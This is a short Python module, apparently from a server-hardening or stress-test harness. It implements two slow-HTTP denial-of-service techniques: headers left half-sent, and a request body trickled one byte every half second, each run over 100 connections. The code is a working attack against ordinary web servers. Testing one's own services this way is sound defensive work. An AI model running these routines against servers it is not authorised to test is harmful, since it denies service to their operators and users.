"""Connections that are kept open by sending almost nothing."""

from __future__ import annotations

import socket
import time

from tools.hostile.row import Row, Target

_BYTE_EVERY_S = 0.5


def _drip(target: Target, head: str, n_bytes: int) -> None:
    """Send a head, then a byte now and then until the server closes the connection."""
    with socket.create_connection((target.host, target.port), 30, (target.address, 0)) as connection:
        connection.sendall(head.format(host=target.host).encode())
        for _ in range(n_bytes):
            time.sleep(_BYTE_EVERY_S)
            try:
                connection.sendall(b" ")
            except OSError:
                return


def _body(target: Target, call: int) -> None:
    head = "POST /api/v1/search HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
    _drip(target, head + "Content-Length: 100000\r\n\r\n{{", 100_000)


def _headers(target: Target, call: int) -> None:
    _drip(target, "GET / HTTP/1.1\r\nHost: {host}\r\nX-Slow:", 100_000)


ROWS = [Row("trickling-bodies", 100, _body), Row("half-sent-headers", 100, _headers)]
